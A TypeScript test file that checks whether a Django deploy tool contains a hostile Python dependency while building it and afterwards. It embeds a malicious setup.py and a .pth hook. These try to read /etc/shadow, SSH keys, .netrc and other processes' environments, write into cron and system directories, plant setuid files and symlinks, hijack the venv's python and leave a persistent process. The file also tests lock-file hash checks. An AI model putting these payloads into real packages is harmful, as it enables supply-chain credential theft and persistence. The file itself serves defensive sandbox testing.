/** What a dependency can do while its environment is built, and afterwards: in a plan and in a deploy. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { expectHeld } from '../lab/attacks.ts'
import { app, openDeployed, type Site } from './site.ts'

/**
 * The setup.py of a package. What it gets at is packed into the package, or raised where no package comes of it. A .pth
 * of its runs whenever the environment's Python starts: it leaves traps in the environment, and a process.
 */
const setup = `
import glob, json, os, socket, subprocess, sys, time
from setuptools import setup

SITE = '/srv/${app}'

def read(path):
    with open(path, 'rb') as file:
        return file.read(40).decode('latin1')

def write(path):
    with open(path, 'a') as file:
        file.write('evil')
    return 'written'

def connect(path):
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(path)
    return 'connected'

def read_environments():
    found = []
    for path in glob.glob('/proc/[0-9]*/environ'):
        if os.stat(os.path.dirname(path)).st_uid != os.getuid():
            found.append(read(path))
    return found

def list_neighbours():
    return [name for name in os.listdir('/srv') if name != '${app}']

acts = {
    'being root': lambda: os.getuid() == 0 and 'uid 0',
    'becoming root': lambda: os.setuid(0) or 'uid 0',
    'the environments of processes': read_environments,
    'processes of others': lambda: [one for one in os.listdir('/proc') if one.isdigit() and os.stat('/proc/' + one).st_uid not in (os.getuid(), 65534)],
    'the neighbours': list_neighbours,
    'a namespace': lambda: subprocess.run(['unshare', '-U', 'true'], stderr=subprocess.DEVNULL).returncode == 0 and 'made',
    'the cache of a neighbour': lambda: os.listdir('/var/cache/django-prod/builds/other/cache'),
    'the bus': lambda: connect('/run/dbus/system_bus_socket'),
    'the socket of the site': lambda: connect(os.path.realpath(SITE + '/current/http.sock')),
}
for path in (SITE + '/secrets.env', SITE + '/current/conf/env', SITE + '/history.jsonl', '/srv/other/secret', '/etc/shadow',
        '/etc/ssh/ssh_host_ed25519_key', '/root/.ssh/authorized_keys', '/root/.netrc', '/etc/caddy/Caddyfile', '/home/debian/.profile'):
    acts['reading ' + path] = lambda path=path: read(path)
for path in ('/etc/evil', '/etc/cron.d/evil', '/root/evil', SITE + '/evil', SITE + '/releases/evil', SITE + '/venvs/evil', SITE + '/shared/media/evil',
        SITE + '/current/code/manage.py', '/usr/local/bin/evil', '/opt/django-prod/evil', '/var/cache/django-prod/evil', '/run/evil', '/var/lib/evil'):
    acts['writing ' + path] = lambda path=path: write(path)
if os.path.exists('raise'):
    acts['the cache of deploys'] = lambda: os.listdir('/var/cache/django-prod/builds/${app}/cache')
got = {}
for name, act in acts.items():
    try:
        got[name] = act()
    except OSError:
        got[name] = None
told = 'REPORT ' + json.dumps({'tried': list(acts), 'escaped': {name: what for name, what in got.items() if what}, 'uid': os.getuid()}) + ' END'
if os.path.exists('raise'):
    sys.exit(told)
os.makedirs('evil', exist_ok=True)
open('evil/__init__.py', 'w').close()
open('evil/report.txt', 'w').write(told)
setup(name='evil', version='1', packages=['evil'], package_data={'evil': ['report.txt', 'trap.py']}, data_files=[])
`

/** Runs while the package is built, and from its .pth whenever the environment's Python starts. */
const trap = `
import glob, os, subprocess, sys
venv = next((one for one in glob.glob('/srv/${app}/venvs/*') if os.access(one, os.W_OK)), '')
mark = os.path.join(venv, 'trapped')
def quietly(act):
    try:
        act()
    except OSError as error:
        pass
if venv and not os.path.exists(mark):
    open(mark, 'w').close()
    shell = os.path.join(venv, 'bin/shell')
    open(shell, 'w').write('#!/bin/sh')
    quietly(lambda: os.chmod(shell, 0o6755))
    open(os.path.join(venv, 'open'), 'w').close()
    os.chmod(os.path.join(venv, 'open'), 0o666)
    for name, target in (('.complete', '/etc/evil-complete'), ('pins.txt', '/etc/cron.d/evil-pins'), ('out', '/srv/${app}/secrets.env'), ('up', '../../secrets.env'), ('.lock', '/etc/evil-lock')):
        quietly(lambda: os.unlink(os.path.join(venv, name)))
        quietly(lambda: os.symlink(target, os.path.join(venv, name)))
    quietly(lambda: os.mkfifo(os.path.join(venv, 'pipe')))
    quietly(lambda: os.link('/etc/passwd', os.path.join(venv, 'passwd')))
    python = os.path.join(venv, 'bin/python')
    real = os.path.realpath(python)
    os.unlink(python)
    open(python, 'w').write('#!/bin/bash\\nid -u 2>/dev/null >>%s/seen\\nexec -a "$0" %s "$@"\\n' % (venv, real))
    os.chmod(python, 0o755)
    open(os.path.join(venv, 'seen'), 'w').close()
    os.chmod(os.path.join(venv, 'seen'), 0o666)
    if os.fork() == 0:
        os.setsid()
        subprocess.Popen(['/bin/sh', '-c', 'trap "" TERM HUP INT; while :; do sleep 1; echo late >>%s/late; done' % venv], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        os._exit(0)
`

/** A wheel's .pth comes from a second package, as setuptools puts none where it would be read. */
const pthSetup = `
from setuptools import setup
from setuptools.command.build_py import build_py
import os

class Build(build_py):
    def run(self):
        super().run()
        os.makedirs(self.build_lib, exist_ok=True)
        with open(os.path.join(self.build_lib, 'evilpth.pth'), 'w') as file:
            file.write('import evilpth\\n')

exec(open('evilpth.py').read())
setup(name='evilpth', version='1', py_modules=['evilpth'], cmdclass={'build_py': Build})
`

interface Told {
  readonly tried: string[]
  readonly escaped: Record<string, unknown>
  readonly uid: number
}
const reportIn = (text: string): Told =>
  JSON.parse(/REPORT (.*) END/.exec(text.replaceAll('\\n', ''))?.[1] ?? '{}') as Told
const escapedOf = ({ escaped }: Told) => Object.entries(escaped).map(([name, what]) => `${name}: ${what}`)

let site: Site
const write = async (files: Record<string, string>) => {
  for (const [path, text] of Object.entries(files)) await site.checkout.write(path, text)
  await site.checkout.commit('Dependencies')
}

beforeAll(async () => {
  site = await openDeployed()
  await site.server.sh(`mkdir -p /srv/other /var/cache/django-prod/builds/other/cache
    echo secret >/srv/other/secret; echo 'machine x login y password z' >/root/.netrc
    chown 61000:61000 /var/cache/django-prod/builds/other/cache`)
})
afterAll(() => site?.down())

describe('a package whose setup.py looks around', () => {
  test('in a plan', async () => {
    await write({
      'requirements.txt': 'Django==5.2.19\n./evil\n',
      'evil/setup.py': setup,
      'evil/raise': '',
    })
    const { code, log } = await site.deploy({ mode: 'plan' })
    expect(code, log).toBe(1)
    const told = reportIn(log)
    expect(told.uid, log).toBeGreaterThan(0)
    expectHeld(
      'a dependency or a branch',
      told.tried.map((name) => `${name}, in a plan`),
      escapedOf(told),
    )
  })

  test('in a deploy, with a .pth that leaves traps in the environment', async () => {
    await site.checkout.remove('evil/raise')
    await write({
      'requirements.txt': 'Django==5.2.19\n./evil\n./evilpth\n',
      'evilpth/setup.py': pthSetup,
      'evilpth/evilpth.py': trap,
    })
    const { code, log } = await site.deploy()
    expect(code, log).toBe(0)
    const { release } = await site.live()
    const venv = (await site.server.sh(`readlink -f /srv/${app}/releases/${release}/venv`)).trim()
    const told = reportIn(await site.server.sh(`cat ${venv}/lib/python*/site-packages/evil/report.txt`))
    expect((await site.server.sh(`cat ${venv}/trapped ${venv}/bin/python`)).trim()).toMatch(/^#!/)
    const escaped = escapedOf(told)
    const expectNone = async (what: string, script: string) => {
      const found = (await site.server.sh(script)).trim()
      if (found !== '') escaped.push(`${what}: ${found}`)
      return what
    }
    // What renews the cache is the action's own.
    await site.server.sh(`while systemctl is-active --quiet ${app}-renewal.service; do sleep 0.1; done`)
    const afterwards = [
      await expectNone(
        'a file that is not only root’s to change',
        `find ${venv} '(' -not -user root -o -perm /6022 -not -type l -o -type p ')'`,
      ),
      await expectNone('a link out', `find ${venv} -type l -printf '%p %l\\n' | grep -E 'secrets|etc' || true`),
      await expectNone(
        'a file elsewhere',
        'find /etc /root /opt /usr/local /var/cache -name "*evil*" -not -path "*/builds/*"',
      ),
      await expectNone('a process that stays', "ps -eo uid=,args= | awk '$1 >= 60706 && $1 < 61184'"),
      await expectNone('root runs what was built', `grep -x 0 ${venv}/seen || true`),
      await expectNone('a password of the account', `grep -l 'password z' -r /var/cache/django-prod || true`),
    ]
    expectHeld('a dependency or a branch', [...told.tried, ...afterwards], escaped)
  })
})

describe('a lock file', () => {
  const wrong = 'b'.repeat(64)
  const right = 'b6a85871a79d2e3b22d2d1b94ac2824226a63c6b741c88f7ae975f18b6778374'
  const pipfile = (hash: string) =>
    JSON.stringify(
      {
        _meta: { sources: [{ url: 'https://pypi.org/simple' }] },
        default: {
          iniconfig: { hashes: [`sha256:${hash}`], version: '==2.0.0' },
          mine: { path: './mine' },
        },
      },
      null,
      4,
    )
  const mine = { 'mine/setup.py': "from setuptools import setup\nsetup(name='mine', version='1')\n" }
  const toml = '[project]\nname = "x"\nversion = "1"\nrequires-python = ">=3.9"\ndependencies = ["iniconfig"]\n'
  const locks: Record<string, Record<string, string>> = {
    'Pipfile.lock': { ...mine, 'Pipfile.lock': pipfile(wrong) },
    'poetry.lock': {
      'pyproject.toml': '[tool.poetry]\nname = "x"\n[tool.poetry.dependencies]\niniconfig = "*"\nown = "*"\n',
      'poetry.lock': `[[package]]\nname = "iniconfig"\nversion = "2.0.0"\ngroups = ["main"]\nfiles = [{file = "iniconfig-2.0.0-py3-none-any.whl", hash = "sha256:${wrong}"}]\n
[[package]]\nname = "packaging"\nversion = "24.0"\ngroups = ["main"]\nfiles = []\n`,
    },
    'uv.lock': {
      'pyproject.toml': toml,
      'uv.lock': `version = 1\nrequires-python = ">=3.9"\n
[[package]]\nname = "iniconfig"\nversion = "2.0.0"\nsource = { registry = "https://pypi.org/simple" }
wheels = [{ url = "https://files.pythonhosted.org/packages/ef/a6/62565a6e1cf69e10f5727360368e451d4b7f58beeac6173dc9db836a5b46/iniconfig-2.0.0-py3-none-any.whl", hash = "sha256:${wrong}", size = 5892 }]\n
[[package]]\nname = "x"\nversion = "1"\nsource = { virtual = "." }\ndependencies = [{ name = "iniconfig" }]\n`,
    },
    'requirements.txt': { ...mine, 'requirements.txt': `iniconfig==2.0.0 --hash=sha256:${wrong}\n./mine\n` },
  }

  test('with a wrong hash and an entry without one: refused', async () => {
    await site.checkout.remove('requirements.txt')
    const escaped: string[] = []
    for (const [file, files] of Object.entries(locks)) {
      await write(files)
      const { code, log } = await site.deploy({ mode: 'plan' })
      if (code === 0 || !/[Hh]ash(es)? mismatch|DO NOT MATCH/.test(log)) escaped.push(`${file}: ${log.slice(-2000)}`)
      for (const path of Object.keys(files)) await site.checkout.remove(path)
    }
    expectHeld(
      'a dependency or a branch',
      Object.keys(locks).map((file) => `a wrong hash in ${file}`),
      escaped,
    )
  })

  test('with an entry that has none: named', async () => {
    await write({
      ...mine,
      'Pipfile.lock': pipfile(right).replace(
        '"default": {',
        '"default": {\n        "django": { "version": "==5.2.19" },',
      ),
    })
    const { code, log, outputs } = await site.deploy({ mode: 'plan' })
    expect(code, log).toBe(0)
    expect(log).toContain('Pipfile.lock has no hash for django, mine')
    expect(outputs.result).toBe('planned')
  })
})
